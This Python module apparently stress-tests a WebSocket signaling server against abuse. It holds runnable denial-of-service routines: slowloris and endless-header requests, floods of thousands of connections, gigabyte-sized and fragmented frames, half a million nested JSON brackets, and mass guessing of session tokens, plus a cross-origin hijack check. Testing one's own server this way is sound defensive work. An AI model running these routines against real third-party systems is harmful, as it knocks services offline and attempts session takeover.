"""Attacks on connections, and on what a server reads: each goes on until it is ended."""

import asyncio
import contextlib
import secrets
import uuid

from costly import picture
from rawclient import (
    MASK,
    line,
    message_frame,
    pour,
    put_down,
    repeat,
    text_frame,
    throw_away,
    upgrade,
    websocket,
)


async def nothing(_: int) -> None:
    """Nobody attacks."""
    await asyncio.Event().wait()


async def hijack(port: int) -> None:
    """Pages of another origin open sockets through the browsers of people."""

    async def one() -> None:
        async with line(port, upgrade(port, "https://evil.example")) as (reader, _):
            answer = await reader.readuntil(b"\r\n\r\n")
            if not answer.startswith(b"HTTP/1.1 403"):
                raise SystemExit(f"let in: {answer!r}")

    await repeat(one, 50)


async def flood(port: int) -> None:
    """Ten peers send candidates to somebody who is not there."""
    candidate = message_frame("ice_candidate", target_peer_id=str(uuid.uuid4()), candidate="")
    subscribe = message_frame("subscribe", session_id="flood")
    await repeat(lambda: pour(port, candidate * 200, subscribe), 10)


async def rings(port: int) -> None:
    """Ten peers ring somebody who is not there."""
    ring = message_frame("start_call", target_peer_id=str(uuid.uuid4()), session_id="flood")
    await repeat(lambda: pour(port, ring * 200, message_frame("subscribe", session_id="flood")), 10)


async def scenes(port: int) -> None:
    """Ten peers ask for a scene of half a megabyte, again and again."""
    await put_down(port, "scenes", {"id": "large", "kind": picture(500_000)})
    subscribe = message_frame("subscribe", session_id="scenes")
    await repeat(lambda: pour(port, message_frame("get_scene") * 50, subscribe), 10)


async def deaf(port: int) -> None:
    """Ten peers ask for the same and read nothing."""
    await put_down(port, "deaf", {"id": "large", "kind": picture(500_000)})
    subscribe = message_frame("subscribe", session_id="deaf")
    await repeat(lambda: pour(port, message_frame("get_scene") * 50, subscribe, reads=False), 10)


async def slowloris(port: int) -> None:
    """A thousand requests whose headers never end."""

    async def one() -> None:
        async with line(port, b"GET / HTTP/1.1\r\n") as (reader, writer):
            while not reader.at_eof():
                writer.write(b"X-More: x\r\n")
                await writer.drain()
                await asyncio.sleep(1)

    await repeat(one, 1000)


async def half_open(port: int) -> None:
    """Ten thousand connections that say nothing."""

    async def one() -> None:
        async with line(port) as (reader, _):
            await reader.read()

    await repeat(one, 10_000)


async def unsubscribed(port: int) -> None:
    """Two thousand WebSockets that join no session."""

    async def one() -> None:
        async with websocket(port) as (reader, _):
            await throw_away(reader)

    await repeat(one, 2000)


async def huge(port: int) -> None:
    """Frames that announce a gigabyte, and messages of 16 MiB in fragments."""

    async def one() -> None:
        head = b"\x81\xff" + (1 << 30).to_bytes(8, "big") + MASK
        async with websocket(port, head) as (reader, writer):
            while not reader.at_eof():
                writer.write(b"x" * 65536)
                await writer.drain()

    async def fragments() -> None:
        part = b"\x01\xff" + (65536).to_bytes(8, "big") + MASK + b"x" * 65536
        more = b"\x00" + part[1:]
        async with websocket(port, part) as (_, writer):
            for _ in range(256):
                writer.write(more)
                await writer.drain()

    await asyncio.gather(repeat(one, 10), repeat(fragments, 10))


async def deep(port: int) -> None:
    """JSON of half a million open brackets."""
    subscribe = b'{"type":"subscribe","session_id":' + b"[" * 500_000
    await repeat(lambda: pour(port, text_frame(subscribe)), 4)


async def guesses(port: int) -> None:
    """Peer ids and resume tokens are guessed, a hundred at once."""

    async def one() -> None:
        wish = message_frame(
            "subscribe",
            session_id="pair-0",
            peer_id=str(uuid.uuid4()),
            resume_token=secrets.token_urlsafe(40),
            received=0,
        )
        target = message_frame("offer", target_peer_id=str(uuid.uuid4()), sdp="v=0")
        async with websocket(port, wish, target * 20) as (reader, _):
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(1):
                    await throw_away(reader)

    await repeat(one, 100)


async def head_without_end(port: int) -> None:
    """Fifty requests with a head of any size."""

    async def one() -> None:
        async with line(port, b"GET / HTTP/1.1\r\n") as (reader, writer):
            while not reader.at_eof():
                writer.write(b"X-More: " + b"x" * 60_000 + b"\r\n")
                await writer.drain()

    await repeat(one, 50)
